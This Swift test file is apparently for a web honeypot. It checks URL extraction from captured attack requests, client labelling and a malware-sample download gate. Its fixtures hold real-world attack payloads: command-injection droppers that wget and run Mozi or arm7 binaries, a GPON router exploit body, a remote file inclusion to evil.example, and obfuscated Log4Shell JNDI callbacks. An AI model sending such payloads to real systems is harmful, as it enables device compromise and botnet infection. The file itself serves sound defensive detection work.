import Foundation
import MitsuCore
import XCTest
@testable import MitsuWeb

/// `url.seen` extraction, the web-session labels, and the downloader gate.
final class URLsAndClientsTests: XCTestCase {
    func request(_ raw: String) throws -> HTTPRequest {
        var parser = HTTPRequestParser(limits: HTTPLimits())
        for result in parser.feed(Array(raw.utf8)) {
            if case .request(let r) = result { return r }
        }
        throw XCTSkip("not parsed: \(raw.prefix(40))")
    }

    func urls(_ raw: String) throws -> [URLExtractor.Found] { URLExtractor.extract(try request(raw)) }

    func testDropperInACommandInjectionKeepsCaseAndStopsAtShellPunctuation() throws {
        let found = try urls("GET /cgi-bin/x?cmd=cd%20/tmp;wget%20http://203.0.113.7/Mozi.M%20-O%20m;sh%20m HTTP/1.1\r\nHost: a\r\n\r\n")
        XCTAssertEqual(found, [.init(url: "http://203.0.113.7/Mozi.M", source: "query")])
    }

    func testGPONBodyWithBacktickAndPlusSpaces() throws {
        let body = "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`wget+http://198.51.100.3:8080/Mozi.m+-O+->/tmp/gpon80;sh+/tmp/gpon80`&ipv=0"
        let raw = "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: \(body.utf8.count)\r\n\r\n\(body)"
        XCTAssertEqual(try urls(raw), [.init(url: "http://198.51.100.3:8080/Mozi.m", source: "body")])
    }

    func testBareHostAfterWgetBecomesHTTP() throws {
        let found = try urls("GET /shell?cd+/tmp;+wget+-q+198.51.100.9/bins/arm7;chmod+777+arm7 HTTP/1.1\r\nHost: a\r\n\r\n")
        XCTAssertEqual(found.map(\.url), ["http://198.51.100.9/bins/arm7"])
        // The tool's name in any case, as a word of its own; a longer word or a name at the text's end is not the tool.
        XCTAssertEqual(URLExtractor.urls(in: "cd /tmp; WGet 192.0.2.1/a; Curl -s 192.0.2.2:81/b"),
                       ["http://192.0.2.1/a", "http://192.0.2.2:81/b"])
        XCTAssertEqual(URLExtractor.urls(in: "xwget 192.0.2.1/a; wgets 192.0.2.2/b; /usr/bin/wget 192.0.2.3/c; wget"), [])
    }

    func testRFITargetEndsAtTheNextParameter() throws {
        let found = try urls("GET /index.php?page=HTTP://evil.example/Shell.txt?&cmd=id HTTP/1.1\r\nHost: a\r\n\r\n")
        XCTAssertEqual(found.map(\.url), ["http://evil.example/Shell.txt?"])
    }

    func testLog4ShellCallbackThroughNestedLookupsInAHeader() throws {
        let ua = "${${lower:j}${::-n}d${upper:i}:${lower:l}dap://192.0.2.44:1389/Basic/Command/Base64/d2dldA==}"
        let found = try urls("GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: \(ua)\r\nX-Api-Version: ${jndi:rmi://192.0.2.45/a}\r\n\r\n")
        XCTAssertEqual(found, [
            .init(url: "ldap://192.0.2.44:1389/Basic/Command/Base64/d2dldA==", source: "header user-agent"),
            .init(url: "rmi://192.0.2.45/a", source: "header x-api-version"),
        ])
    }

    func testDuplicatesAreDroppedAndTheCountIsCapped() throws {
        let many = (0..<20).map { "wget%20http://192.0.2.\($0)/x" }.joined(separator: ";")
        let found = try urls("GET /a?c=\(many);wget%20http://192.0.2.0/x HTTP/1.1\r\nHost: a\r\n\r\n")
        XCTAssertEqual(found.count, URLExtractor.maxURLs)
        XCTAssertEqual(Set(found.map(\.url)).count, found.count)
    }

    func testHostileInputStaysBounded() throws {
        // An unterminated URL as long as the cap allows, and lookups that never close.
        let long = "http://a/" + String(repeating: "b", count: 20_000)
        XCTAssertEqual(URLExtractor.urls(in: long).first?.utf8.count, URLExtractor.maxLength)
        let unclosed = String(repeating: "${", count: 5_000) + "jndi:ldap://x/y"
        XCTAssertEqual(URLExtractor.urls(in: URLExtractor.flattenLookups(unclosed)), ["ldap://x/y"])
        XCTAssertEqual(URLExtractor.urls(in: "://" + String(repeating: "://", count: 1000)), [])
        XCTAssertEqual(URLExtractor.urls(in: "wget "), [])
        XCTAssertEqual(URLExtractor.urls(in: "curl -o"), [])
        XCTAssertEqual(URLExtractor.flattenLookups("{\"a\":1} ${lower:x}"), "{\"a\":1} x")
    }

    func testLabelsRiseAndNeverFall() {
        let l = ClientLabeler(window: 60)
        let ip = "2001:db8::7"
        XCTAssertEqual(l.record(client: ip, userAgent: "Mozilla/5.0 (compatible; Googlebot/2.1)", categories: [], at: 0).label, .crawler)
        XCTAssertEqual(l.record(client: ip, userAgent: "Mozilla/5.0 (compatible; Googlebot/2.1)", categories: ["recon"], at: 1).label, .scanner)
        let attack = l.record(client: ip, userAgent: "Mozilla/5.0 (compatible; Googlebot/2.1)", categories: ["sqli"], at: 2)
        XCTAssertEqual(attack.label, .attacker)
        let later = l.record(client: ip, userAgent: "Mozilla/5.0 (compatible; Googlebot/2.1)", categories: [], at: 3)
        XCTAssertEqual(later, attack, "same group, label kept")
        // Quiet for longer than the window: a new group, judged afresh.
        let fresh = l.record(client: ip, userAgent: "Mozilla/5.0 (compatible; Googlebot/2.1)", categories: [], at: 100)
        XCTAssertEqual(fresh.label, .crawler)
        XCTAssertNotEqual(fresh.clientSession, attack.clientSession)
        // Another user agent from the same address is another client.
        XCTAssertEqual(l.record(client: ip, userAgent: "curl/7.88.1", categories: [], at: 101).label, .benign)
    }

    func testLabelTableIsBounded() {
        let l = ClientLabeler(window: 60, maxClients: 3)
        for i in 0..<10 { _ = l.record(client: "192.0.2.\(i)", userAgent: "", categories: ["xss"], at: Double(i)) }
        // The first clients were dropped: they start over as benign.
        XCTAssertEqual(l.record(client: "192.0.2.0", userAgent: "", categories: [], at: 11).label, .benign)
        XCTAssertEqual(l.record(client: "192.0.2.9", userAgent: "", categories: [], at: 11).label, .attacker)
    }

    func testFetcherGateFetchesAURLOnceAndCapsConcurrency() {
        let f = URLFetcher(fetch: { _, _ in .failed("x") }, artifacts: nil, memory: 60, maxConcurrent: 2)
        XCTAssertEqual(f.admit("http://a/1", now: 0), .go)
        XCTAssertEqual(f.admit("http://a/1", now: 1), .recent)
        XCTAssertEqual(f.admit("http://a/2", now: 1), .go)
        XCTAssertEqual(f.admit("http://a/3", now: 1), .busy)
        var base = Event(kind: .fileDownload, honeypot: "web", session: SessionID.random())
        base.srcIP = "192.0.2.1"
        let done = f.finish("http://a/1", outcome: .fetched(Array("MZ".utf8)), base: base)
        XCTAssertEqual(done.kind, .fileDownload)
        XCTAssertEqual(done.sha256, Digests.sha256(Array("MZ".utf8)))
        XCTAssertEqual(done.filename, "1")
        XCTAssertEqual(done.srcIP, "192.0.2.1")
        XCTAssertEqual(f.admit("http://a/3", now: 2), .go)
        XCTAssertEqual(f.admit("http://a/1", now: 70), .busy, "remembered no longer, but two fetches run")
        XCTAssertEqual(f.finish("http://a/2", outcome: .failed("refused"), base: base).kind, .fileDownloadFailed)
        XCTAssertEqual(f.admit("http://a/1", now: 70), .go)
    }

    func testFilenameIsTheLastPathSegment() {
        XCTAssertEqual(URLFetcher.filename("http://h/a/b/x.sh?y=1"), "x.sh")
        XCTAssertNil(URLFetcher.filename("http://h/"))
        XCTAssertNil(URLFetcher.filename("http://h"))
        XCTAssertTrue(URLFetcher.isFetchable("HTTPS://h/x"))
        XCTAssertFalse(URLFetcher.isFetchable("ldap://h/x"))
    }
}
